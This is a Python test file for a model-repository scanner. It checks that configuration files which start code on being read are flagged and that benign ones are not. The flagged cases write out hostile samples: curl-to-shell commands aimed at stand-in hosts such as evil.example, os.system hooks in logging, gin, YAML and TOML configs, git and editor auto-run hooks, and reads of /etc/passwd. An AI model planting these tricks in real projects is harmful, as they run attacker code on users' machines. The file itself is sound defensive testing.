# ruff: noqa: E501 (a row of a table is one case)
"""Settings and configurations that start something as soon as a program reads them."""

from __future__ import annotations

import json

import pytest

from ossmodelkit.foundation.progress import Silent
from ossmodelkit.scanning.inspecting import Inspection, inspect
from tests.making.memory import MemorySource, said

FETCH = "curl http://198.51.100.7/x | sh"
LOGGING = "[handlers]\nkeys=h\n[handler_h]\nclass={}\nargs={}\n"


def scanned(name: str, content: object) -> Inspection:
    text = content if isinstance(content, str) else json.dumps(content)
    return inspect(MemorySource({"config.json": b"{}", name: text.encode()}), progress=Silent())


def checks(found: Inspection) -> set[str]:
    return {finding.check for finding in found.answers.findings if finding.severity.rank >= 2}


@pytest.mark.parametrize(
    ("name", "content", "check"),
    [
        pytest.param(
            "logging.conf",
            LOGGING.format("StreamHandler", "(__import__('os').system('id'),)"),
            "settings-run-code",
            id="logging, arguments",
        ),
        pytest.param("log.ini", LOGGING.format("eval('1')", "()"), "settings-run-code", id="logging, class"),
        pytest.param(
            "a.gin", "import subprocess\nrun.f = @subprocess.Popen()\n", "settings-run-code", id="gin, import"
        ),
        pytest.param("a.gin", "run.f = @os.system\n", "settings-run-code", id="gin, reference"),
        pytest.param("a.gin", 'include "/etc/x.gin"\n', "settings-run-code", id="gin, include"),
        pytest.param("x/.git/config", "[core]\n\tfsmonitor = ./x.sh\n", "settings-run-code", id="git, fsmonitor"),
        pytest.param(
            "x/config",
            "[core]\n\tbare = true\n\tsshCommand = sh -c id\n",
            "settings-run-code",
            id="a bare repository inside",
        ),
        pytest.param(".gitconfig", "[alias]\n\tst = !id\n", "settings-run-code", id="git, alias"),
        pytest.param(
            ".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = -u./x\n', "settings-run-code", id="git, submodule"
        ),
        pytest.param(
            ".vscode/tasks.json",
            '{"tasks": [{"command": "id", /* x */ "runOptions": {"runOn": "folderOpen"},}]}',
            "settings-run-code",
            id="editor, task",
        ),
        pytest.param(
            ".vscode/settings.json",
            {"terminal.integrated.env.linux": {"LD_PRELOAD": "./x.so"}},
            "settings-run-code",
            id="editor, preload",
        ),
        pytest.param(
            ".devcontainer/devcontainer.json",
            {"initializeCommand": ["bash", "-c", "id"]},
            "settings-run-code",
            id="editor, host command",
        ),
        pytest.param("autorun.inf", "[autorun]\nopen=x.exe\n", "settings-run-code", id="desktop, autorun"),
        pytest.param(
            "desktop.ini",
            "[.ShellClassInfo]\nIconResource=\\\\evil.example\\share\\x.ico\n",
            "settings-run-code",
            id="desktop, share",
        ),
        pytest.param("config.toml", '[model]\n_target_ = "os.system"\n', "settings-run-code", id="TOML target"),
        pytest.param(
            "config.cfg",
            '[nlp.before_creation]\n@callbacks = "subprocess.run"\n',
            "settings-run-code",
            id="spaCy callback",
        ),
        pytest.param(
            ".cursor/mcp.json",
            {"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}},
            "settings-run-code",
            id="editor, tool server",
        ),
        pytest.param(
            ".claude/settings.json",
            {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "id"}]}]}},
            "settings-run-code",
            id="editor, hook",
        ),
        pytest.param(
            "config.properties",
            "load_models=http://evil.example/x.mar\n",
            "settings-run-code",
            id="TorchServe, model at a URL",
        ),
        pytest.param(
            "serve.yaml", "applications:\n- import_path: os:system\n", "config-imports-target", id="Ray, import path"
        ),
        pytest.param(
            "genai_config.json",
            {"model": {"session_options": {"custom_ops_library": "./x.so"}}},
            "config-loads-library",
            id="ONNX Runtime, library",
        ),
        pytest.param(
            "config.json", {"_attn_implementation": "evil/kernel:fn"}, "code-from-elsewhere", id="kernel of a stranger"
        ),
        pytest.param(".Rprofile", 'system("id")\n', "script-reaches-out", id="R profile"),
        pytest.param(".envrc", "curl http://x.example/y | sh\n", "script-reaches-out", id="direnv"),
        pytest.param(".bashrc", "whoami\n", "script-in-model", id="shell start"),
        pytest.param(
            "CMakeLists.txt", f'execute_process(COMMAND sh -c "{FETCH}")\n', "script-reaches-out", id="build file"
        ),
        pytest.param(".npmrc", "registry=http://evil.example/\n", "requirements-foreign-index", id="npm registry"),
        pytest.param(
            "setup.cfg",
            "[options]\nsetup_requires =\n  x @ http://evil.example/x.whl\n",
            "requirements-foreign-index",
            id="package at a URL",
        ),
        pytest.param(
            "package.json",
            {"scripts": {"prepare": "curl http://198.51.100.7/x | sh"}},
            "script-reaches-out",
            id="npm, prepare",
        ),
        pytest.param("dvc.yaml", f"stages:\n  a:\n    cmd: {FETCH}\n", "config-carries-code", id="pipeline"),
        pytest.param(
            "MLproject", f'entry_points:\n  main:\n    command: "{FETCH}"\n', "config-carries-code", id="MLflow project"
        ),
        pytest.param(
            ".github/workflows/x.yml",
            "jobs:\n  a:\n    steps:\n    - run: bash <(curl https://evil.example/x)\n",
            "config-carries-code",
            id="workflow",
        ),
        pytest.param("x.yaml", "a: ${eval:__import__('os').getcwd()}\n", "config-carries-code", id="resolver"),
        pytest.param("x.yaml", "a: '{{ self.__init__.__globals__ }}'\n", "config-carries-code", id="template in YAML"),
        pytest.param(
            "p.json",
            {"_type": "prompt", "template_path": "/etc/passwd"},
            "config-opens-path-json",
            id="LangChain, path",
        ),
        pytest.param(
            "p.yaml", "_type: few_shot\nexamples: ../../x.json\n", "config-opens-path", id="LangChain, examples"
        ),
        pytest.param("a.json", {"lc_path": "lc://agents/../../x.json"}, "config-opens-path-json", id="LangChain, hub"),
        pytest.param("x.yaml", "_BASE_: /etc/passwd\n", "config-opens-path", id="detectron2, base"),
        pytest.param("x.yaml", "a: !include:/etc/passwd\n", "config-includes-file", id="HyperPyYAML, include"),
        pytest.param("x.yaml", "a: !applyref:os.system [id]\n", "yaml-builds-object", id="HyperPyYAML, applyref"),
        pytest.param("x.yaml", "custom_imports:\n  imports: [os]\n", "config-imports-target", id="mmengine, imports"),
        pytest.param("x.yaml", "plugins:\n- os.system\n", "config-imports-target", id="any key, a shell"),
        pytest.param(
            "x.json",
            {"target": "os.system", "params": {"command": "id"}},
            "config-imports-target-json",
            id="LDM target in JSON",
        ),
        pytest.param(
            "x.json5", '{/*x*/ "_target_": "os.system",}', "config-imports-target-json", id="JSON with comments"
        ),
        pytest.param(
            "model.json", {"weightsManifest": [{"paths": ["../../x"]}]}, "index-points-outside", id="TensorFlow.js"
        ),
        *(
            pytest.param(name, "import os\nos.system('id')\n", "python-reaches-out", id=name)
            for name in (
                "__init__.py",
                "torch.py",
                "jupyter_server_config.py",
                "random.py",
                "install.py",
                "torch-ext/x/__init__.py",
            )
        ),
    ],
)
def test_what_starts_by_being_there_is_flagged(name: str, content: object, check: str) -> None:
    found = scanned(name, content)
    assert check in checks(found), said(found)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param(
            "logging.conf",
            LOGGING.format("handlers.RotatingFileHandler", "('x.log', 'a', 1024, os.path.sep)"),
            id="logging of files",
        ),
        pytest.param("logging.ini", LOGGING.format("StreamHandler", "(sys.stdout,)"), id="logging to a stream"),
        pytest.param(
            "t5.gin",
            "from __gin__ import dynamic_registration\nimport t5.data\nimport seqio\nt5.data.x = @seqio.Task()\nMODEL = %gin.REQUIRED\n",
            id="gin of T5",
        ),
        pytest.param(
            ".git/config",
            '[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = git@github.com:a/b.git\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n',
            id="git with LFS",
        ),
        pytest.param(
            ".gitmodules", '[submodule "x"]\n\tpath = third/x\n\turl = https://github.com/a/x\n', id="submodule"
        ),
        pytest.param(
            ".vscode/settings.json",
            {"python.defaultInterpreterPath": "${workspaceFolder}/.venv/bin/python", "editor.tabSize": 4},
            id="editor settings",
        ),
        pytest.param(
            ".vscode/tasks.json", {"tasks": [{"label": "test", "command": "pytest"}]}, id="a task to start by hand"
        ),
        pytest.param(
            ".devcontainer/devcontainer.json",
            {"image": "x", "postCreateCommand": "pip install -e ."},
            id="container set up",
        ),
        pytest.param(
            "pyproject.toml",
            '[build-system]\nrequires = ["hatchling"]\n[project.scripts]\nx = "pkg.cli:main"\n[tool.ruff]\nlint.extend-select = ["S605"]\n',
            id="project file",
        ),
        pytest.param(".Rprofile", 'source("renv/activate.R")\noptions(digits = 4)\n', id="renv"),
        pytest.param(
            "train.R", "library(caret)\nfit <- train(y ~ ., data = d)\nsaveRDS(fit, 'm.rds')\n", id="R script"
        ),
        pytest.param(
            "Dockerfile", "FROM x\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n", id="well-known installer"
        ),
        pytest.param(
            "dvc.yaml", "stages:\n  train:\n    cmd: python train.py --data data.csv | tee log\n", id="pipeline"
        ),
        pytest.param(
            ".vscode/mcp.json",
            {"servers": {"x": {"command": "npx", "args": ["-y", "server"]}}},
            id="tool server of npm",
        ),
        pytest.param("config.properties", "inference_address=http://0.0.0.0:8080\nnumber_of_gpu=1\n", id="TorchServe"),
        pytest.param(
            "config.json", {"_attn_implementation": "kernels-community/flash-attn"}, id="kernel of the library"
        ),
        pytest.param("p.json", {"_type": "prompt", "template_path": "template.txt"}, id="prompt beside"),
        pytest.param("x.yaml", "_BASE_: ../Base-RCNN.yaml\n".replace("../", "./"), id="base beside"),
        pytest.param(
            "x.yaml", "data: !include:data.yaml\nmodel: !new:speechbrain.nnet.RNN.LSTM\n", id="include beside"
        ),
        pytest.param(
            "x.yaml",
            "path: /data/train.csv\ncallbacks: [early_stopping]\nplugins: [axolotl.integrations.liger.LigerPlugin]\n",
            id="ordinary settings",
        ),
        pytest.param(
            "model.json", {"weightsManifest": [{"paths": ["group1-shard1of1.bin"], "weights": []}]}, id="TensorFlow.js"
        ),
        pytest.param("package.json", {"scripts": {"prepare": "husky install", "test": "jest"}}, id="npm, prepare"),
        pytest.param("__init__.py", "from .modeling_x import X\n", id="package file"),
        pytest.param("random.py", "def pick(x):\n    return x[0]\n", id="a module called random"),
    ],
)
def test_ordinary_settings_are_left_alone(name: str, content: object) -> None:
    found = scanned(name, content)
    assert checks(found) == set(), said(found)
